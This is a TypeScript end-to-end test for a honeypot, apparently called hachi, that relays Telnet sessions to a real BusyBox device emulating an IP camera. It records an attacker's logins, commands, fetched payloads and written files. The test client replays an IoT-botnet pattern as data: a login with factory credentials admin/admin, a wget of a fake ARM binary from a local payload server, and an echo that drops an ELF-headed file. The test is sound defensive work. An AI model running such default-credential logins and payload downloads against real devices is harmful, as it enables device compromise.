// End to end: a real BusyBox telnetd (its login a small sh script with factory credentials, its
// shell BusyBox ash inside a throwaway directory) behind hachi's Telnet relay. The logins judged
// from the device's replies, the commands and the device's output become events with mode 'real';
// a URL the attacker fetches on the device is fetched by hachi too, and a file written with echo is
// reconstructed by the shadow shell and stored.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { chmod, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { storedRows } from './stored-events.ts';
import { startHachi, type RunningHachi } from './hachi-process.ts';
import { freePort, waitForPort } from './loopback-ports.ts';
import { CAMERA } from './personas.ts';
import { TelnetTestClient } from './telnet-client.ts';
import { startPayloadServer, type PayloadServer } from '../../src/testing/payload-server.ts';

let telnetd: ChildProcess;
let devicePort = 0;
let payloads: PayloadServer;
let hachi: RunningHachi;


before(async () => {
  const root = await mkdtemp(join(tmpdir(), 'hachi-telnet-device-'));
  const login = join(root, 'login.sh');
  // The device's login: factory credentials admin/admin, three tries, then a root-like ash prompt.
  await writeFile(
    login,
    `#!/bin/busybox sh\ncd '${root}'\nn=0\nwhile [ $n -lt 3 ]; do\n  printf 'camera login: '\n  read user\n  printf 'Password: '\n  stty -echo 2>/dev/null; read pass; stty echo 2>/dev/null; printf '\\n'\n  if [ "$user" = admin ] && [ "$pass" = admin ]; then exec env -i HOME='${root}' PATH=/bin:/usr/bin PS1='# ' busybox sh -i; fi\n  echo 'Login incorrect'\n  n=$((n+1))\ndone\n`,
  );
  await chmod(login, 0o755);
  devicePort = await freePort();
  telnetd = spawn('busybox', ['telnetd', '-F', '-b', `127.0.0.1:${devicePort}`, '-l', login], { stdio: 'ignore' });
  await waitForPort(devicePort);
  payloads = await startPayloadServer({ '/bins/x.arm7': Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0, ...Array.from({ length: 300 }, (_, i) => i & 255)]) });
  hachi = await startHachi([{ name: 'camera', persona: CAMERA.id, loginFailureDelayMs: 0 }], {
    services: [{ name: 'camera', protocol: 'telnet', host: '127.0.0.1', port: 0, persona: CAMERA.id }],
    fetch: { allow: ['127.0.0.1/32'] },
    devices: [{ name: 'cam-real', product: 'XM IPC (lab unit)', firmware: 'V4.02.R11', address: '127.0.0.1', persona: CAMERA.id, maxSessions: 1, admitWaitMs: 200, services: [{ protocol: 'telnet', host: '127.0.0.1', port: 0, devicePort }] }],
  });
});

after(async () => {
  await hachi.stop();
  telnetd.kill();
  await payloads.close();
});

const rows = (sql: string, count: number): Promise<Record<string, unknown>[]> => storedRows(hachi, sql, count);

test('logins, commands, output and the files they fetch or write are recorded from the real device', async () => {
  const match = new RegExp(`cam-real:${devicePort}\\s.*listening on [^\\s]*:(\\d+)`).exec(hachi.output());
  assert.ok(match, hachi.output());
  const bot = await TelnetTestClient.connect(Number(match[1]));
  assert.equal(await bot.login('admin', 'wrong'), false);
  bot.sendRaw('admin\r\n');
  await bot.waitFor(/Password: $/);
  bot.sendRaw('admin\r\n');
  await bot.waitFor(/# $/, 10_000);
  assert.match(await bot.run('echo hello-from-device'), /hello-from-device/);
  await bot.run(`wget http://127.0.0.1:${payloads.port}/bins/x.arm7 -O x.arm7`, 10_000);
  await bot.run("echo -ne '\\x7f\\x45\\x4c\\x46dropped' > drop.bin");
  await bot.run('exit').catch(() => '');
  bot.close();

  const auth = await rows("SELECT data FROM events WHERE type = 'auth.attempt' AND persona = 'cam-real' ORDER BY id", 2);
  assert.deepEqual(auth.map((r) => JSON.parse(String(r.data)) as { username: string; password: string; success: boolean }).map((a) => [a.username, a.password, a.success]), [['admin', 'wrong', false], ['admin', 'admin', true]]);
  const commands = await rows("SELECT data FROM events WHERE type = 'command.input' AND persona = 'cam-real' ORDER BY id", 3);
  assert.deepEqual(commands.slice(0, 3).map((r) => (JSON.parse(String(r.data)) as { line: string }).line), ['echo hello-from-device', `wget http://127.0.0.1:${payloads.port}/bins/x.arm7 -O x.arm7`, "echo -ne '\\x7f\\x45\\x4c\\x46dropped' > drop.bin"]);
  const outputs = await rows("SELECT data FROM events WHERE type = 'relay.output' AND persona = 'cam-real' ORDER BY id", 1);
  assert.ok(outputs.some((r) => (JSON.parse(String(r.data)) as { command: string; text: string }).text.includes('hello-from-device')));
  const fetched = await rows("SELECT outcome, mode FROM fetches f JOIN events e ON e.id = f.event_id WHERE f.persona = 'cam-real'", 1);
  assert.deepEqual([fetched[0]?.outcome, fetched[0]?.mode], ['ok', 'real']);
  const written = await rows("SELECT data FROM events WHERE type = 'file.write' AND persona = 'cam-real'", 1);
  assert.ok(written.some((r) => (JSON.parse(String(r.data)) as { path: string }).path.endsWith('/drop.bin')));
});

test('while the device is busy a second attacker is served by the fallback persona, and the events say so', async () => {
  const port = Number(new RegExp(`cam-real:${devicePort}\\s.*listening on [^\\s]*:(\\d+)`).exec(hachi.output())![1]);
  const first = await TelnetTestClient.connect(port);
  assert.equal(await first.login('admin', 'admin'), true);
  const second = await TelnetTestClient.connect(port);
  // The emulated camera answers: its factory credential works, the device's does not.
  assert.equal(await second.login(CAMERA.username, CAMERA.password), true);
  assert.match(await second.run('uname -m'), new RegExp(CAMERA.unameMachine));
  first.close();
  second.close();
  const unavailable = await rows("SELECT data FROM events WHERE type = 'relay.unavailable' AND persona = 'cam-real'", 1);
  const event = JSON.parse(String(unavailable[0]!.data)) as { state: string; served: string };
  assert.deepEqual([event.state, event.served], ['full', 'persona']);
  const emulated = await rows(`SELECT data FROM events WHERE type = 'auth.attempt' AND persona = '${CAMERA.id}' AND mode = 'emulated'`, 1);
  assert.ok(emulated.some((r) => (JSON.parse(String(r.data)) as { success: boolean }).success));
});
